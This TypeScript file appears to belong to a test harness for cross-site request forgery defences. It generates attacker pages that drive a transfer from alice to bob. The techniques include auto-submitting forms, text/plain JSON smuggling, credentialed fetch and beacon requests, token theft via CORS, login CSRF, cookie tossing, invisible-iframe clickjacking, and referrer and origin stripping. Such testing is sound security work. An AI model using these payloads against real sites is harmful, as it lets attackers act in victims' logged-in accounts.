import type { FlowId } from "../../../core/ids.ts";
import type { SenderOrigins } from "../hosts/model.ts";
import { framedName } from "./model.ts";
import { csrfCookies } from "./tokens.ts";

/** What the page of a case is written with. */
export type CaseTarget = {
  readonly origins: SenderOrigins;
  readonly flow: FlowId;
  readonly id: string;
  /** What names the attack in its requests; `null`: the page is shown, and not served. */
  readonly ticket: string | null;
  /** The next page of the play. A navigation gets there by the application's answer. */
  readonly next: string;
  /** A token of the attacker's own session. */
  readonly planted: string;
  /** A token of the session that alice's browser had before she logged in. */
  readonly beforeLogin: string;
  /** How long the page waits, in milliseconds, so that the cookies are as old as the case says. */
  readonly waits: number;
  /** Another address of the attacker's, which sends the request on. Without it the page sends to the application. */
  readonly by?: string;
};

export type CasePage = {
  readonly html: string;
  readonly headers?: readonly (readonly [name: string, value: string])[];
};

/** The page of a case, as the attacker's host serves it. */
export type PageOf = (target: CaseTarget) => CasePage;

/** Where the request of a case goes: to the attacked address, or to a host that redirects it there. The query names the case. */
export function addressOf(
  target: CaseTarget,
  fields: Readonly<Record<string, string>> = {},
  action = "transfer",
): string {
  const { origins, flow, ticket, id, by } = target;
  if (by !== undefined) return by;
  const query = new URLSearchParams({ ...fields, ...(ticket !== null && { attack: ticket, case: id }) });
  return `${origins.victim}/api/${flow}/${action}${query.size > 0 ? `?${query}` : ""}`;
}

export const stolen = { to: "bob", amount: "1" } as const;

function form(action: string, fields: Readonly<Record<string, string>>, attributes = ""): string {
  const inputs = Object.entries(fields).map(
    ([name, value]) => `  <input name="${quoted(name)}" value="${quoted(value)}">`,
  );
  return [
    `<form method="post" action="${quoted(action)}"${attributes}>`,
    ...inputs,
    "</form>",
    "<script>document.forms[0].submit()</script>",
  ].join("\n");
}

/** A script that sends something, and goes on to the next page when it has ended. Shown alone, it only sends. */
function script({ ticket, next }: CaseTarget, sends: string): string {
  return ticket === null
    ? `<script>\n  ${sends}\n</script>`
    : `<script>\n  Promise.resolve(${sends}).catch(() => {}).finally(() => setTimeout(() => location.replace(${JSON.stringify(next)}), 150))\n</script>`;
}

function quoted(text: string): string {
  return text.replaceAll("&", "&amp;").replaceAll('"', "&quot;");
}

export const formPost = (target: CaseTarget): CasePage => ({ html: form(addressOf(target), stolen) });

/** A form whose text is JSON: the one name and the one value have a `=` between them, which lands in a text. */
export const formText = (target: CaseTarget): CasePage => ({
  html: form(addressOf(target), { '{"to":"bob","amount":1,"":"': '"}' }, ' enctype="text/plain"'),
});

export const link = (target: CaseTarget, fields: Readonly<Record<string, string>>): CasePage => ({
  html: `<script>location.href = ${JSON.stringify(addressOf(target, fields))}</script>`,
});

export const redirected = (target: CaseTarget): CasePage => ({
  html: `<script>location.href = "redirect/${target.id}"</script>`,
});

export const image = (target: CaseTarget): CasePage => ({
  html: [
    `<img src="${quoted(addressOf(target, stolen))}"`,
    target.ticket === null ? ">" : `  onload="go()" onerror="go()">`,
    ...(target.ticket === null
      ? []
      : [`<script>const go = () => location.replace(${JSON.stringify(target.next)})</script>`]),
  ].join("\n"),
});

export const fetchSimple = (target: CaseTarget): CasePage => ({
  html: script(
    target,
    `fetch(${JSON.stringify(addressOf(target))}, {\n    method: "POST", mode: "no-cors", credentials: "include",\n    body: new URLSearchParams({ to: "bob", amount: 1 }),\n  })`,
  ),
});

export const fetchJson = (target: CaseTarget): CasePage => ({
  html: script(
    target,
    `fetch(${JSON.stringify(addressOf(target))}, {\n    method: "POST", credentials: "include",\n    headers: { "content-type": "application/json" },\n    body: JSON.stringify({ to: "bob", amount: 1 }),\n  })`,
  ),
});

export const beacon = (target: CaseTarget): CasePage => ({
  html: script(
    target,
    `navigator.sendBeacon(${JSON.stringify(addressOf(target))},\n    new Blob(['{"to":"bob","amount":1}'], { type: "text/plain" }))`,
  ),
});

/** Where alice's own page gets its token from. In the other cases nothing answers there. */
export const tokenPath = "csrf-token";

/** If the answers of the application can be read, so can the token. */
export const throughCors = (target: CaseTarget): CasePage => {
  const [token, transfer] = [addressOf(target, {}, tokenPath), addressOf(target)].map((url) => JSON.stringify(url));
  const lines = [
    `fetch(${token}, { credentials: "include" })`,
    "    .then((answer) => answer.json())",
    `    .then(({ token }) => fetch(${transfer}, {`,
    '      method: "POST", credentials: "include",',
    '      headers: { "content-type": "application/json", "x-csrf-token": token },',
    '      body: JSON.stringify({ to: "bob", amount: 1 }),',
    "    }))",
  ];
  return { html: script(target, lines.join("\n")) };
};

/** The victim is logged in as somebody else, and goes on in that account. */
export const loginForm = (target: CaseTarget): CasePage => ({
  html: form(addressOf(target, {}, "login"), { username: "bob", password: "bob-likes-coffee" }),
});

/**
 * A sibling, and a server on another port, set cookies for the application. Both names are tried: a sibling needs a
 * Domain, with which no browser takes a `__Host-`, and another port needs none.
 */
function planting(target: CaseTarget, token: string, domain: string): CasePage {
  const line = (name: string) =>
    `${name}=${token}; ${domain}Path=${domain === "" ? "/" : "/api"}; Secure; SameSite=None`;
  return {
    html: form(addressOf(target), { ...stolen, csrf: token }),
    headers: [csrfCookies.plainToken, csrfCookies.hostToken].map((name) => ["set-cookie", line(name)] as const),
  };
}

const domainOf = ({ origins }: CaseTarget) => `Domain=${new URL(origins.victim).hostname}; `;

export const tossed = (target: CaseTarget): CasePage => planting(target, target.planted, domainOf(target));

export const tossedBefore = (target: CaseTarget): CasePage => planting(target, target.beforeLogin, domainOf(target));

/** What a sibling planted has a longer Path and would come first, so it is deleted: a port can do that as well. */
export const setFromPort = (target: CaseTarget): CasePage => {
  const { html, headers = [] } = planting(target, target.planted, "");
  const gone = `${csrfCookies.plainToken}=; ${domainOf(target)}Path=/api; Max-Age=0`;
  return { html, headers: [["set-cookie", gone], ...headers] };
};

/**
 * The page of the application lies over the bait, and cannot be seen. It is pressed, reloads, and the attacker goes on.
 * The second frame has the same page with its policy.
 */
export const framing = ({ origins, id, ticket, next }: CaseTarget): CasePage => {
  const at = (kind: string) => `${origins.victim}/${framedName}/${ticket ?? "…"}/${id}/${kind}`;
  const lines = [
    "<style>",
    "  b, iframe { position: absolute; left: 2rem; top: 13rem; width: 20rem; height: 3rem; border: 0 }",
    "  b { background: gold; text-align: center; line-height: 3rem }",
    "  iframe { opacity: 0 }",
    "</style>",
    "<b>Press here, within ten seconds!</b>",
    `<iframe src="${at("closed")}"></iframe>`,
    `<iframe src="${at("open")}"></iframe>`,
  ];
  return { html: [...lines, ...(ticket === null ? [] : [`<script>${afterPress(next)}</script>`])].join("\n") };
};

/** The frame above loads a second time after it was pressed. Both have loaded once before, or two seconds have passed. */
function afterPress(next: string): string {
  return `
  const [closed, open] = document.querySelectorAll("iframe");
  const loaded = (frame) => new Promise((done) => frame.addEventListener("load", done, { once: true }));
  const within = (seconds, event) => Promise.race([event, new Promise((done) => setTimeout(done, seconds * 1000))]);
  const refused = within(2, loaded(closed));
  loaded(open).then(() => within(10, loaded(open))).then(() => refused).then(() => location.replace(${JSON.stringify(next)}));
`;
}

/** The form of the first case, once a cookie is older than the browser's exception for young ones. */
export const lateForm = (target: CaseTarget): CasePage => ({
  html: formPost(target).html.replace(
    "document.forms[0].submit()",
    `setTimeout(() => document.forms[0].submit(), ${target.waits})`,
  ),
});

/** The same page without a referrer. */
export const withoutReferrer =
  (page: PageOf): PageOf =>
  (target) => {
    const { html, ...rest } = page(target);
    return { ...rest, html: `<meta name="referrer" content="no-referrer">\n${html}` };
  };

/** The same page in a sandbox, where it has no origin. So has what it frames. */
export const inSandbox =
  (page: PageOf): PageOf =>
  (target) => ({ ...page(target), headers: [["content-security-policy", "sandbox allow-scripts allow-forms"]] });

/** The same page, whose request a second host sends on. After a redirect from one origin to a third the browser names none (Fetch §4.4). */
export const throughSibling =
  (page: PageOf): PageOf =>
  (target) =>
    page({ ...target, by: `${target.origins.sibling}/csrf/${target.ticket ?? "…"}/redirect/${target.id}` });
